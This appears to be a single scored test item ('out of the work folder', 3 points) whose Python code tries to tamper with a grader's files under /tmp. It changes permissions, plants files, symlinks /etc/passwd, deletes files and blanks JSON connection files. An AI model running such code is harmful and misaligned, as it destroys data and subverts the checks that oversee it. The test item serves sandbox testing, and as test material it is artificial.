"""
family = "out of the work folder"
tries = "Replaces the sockets and the connection file that the grader is going to open by links to elsewhere."
points = 3
"""

# %% own
import glob
import os

for folder in glob.glob("/tmp/*/s"):
    for action in (
        lambda: os.chmod(folder, 0o777),
        lambda: open(f"{folder}/planted", "w"),
        lambda: os.rename(folder, folder + "x"),
        lambda: os.symlink("/etc/passwd", f"{folder}/k-9"),
        *(lambda path=path: os.unlink(path) for path in glob.glob(f"{folder}/*")),
        *(lambda path=path: open(path, "r+").write("{}") for path in glob.glob(f"{folder}/*.json")),
        *(lambda path=path: os.chmod(path, 0o777) for path in glob.glob(f"{folder}/*")),
    ):
        try:
            action()
            print("\N{SKULL AND CROSSBONES} changed something in", folder)
        except OSError:
            pass
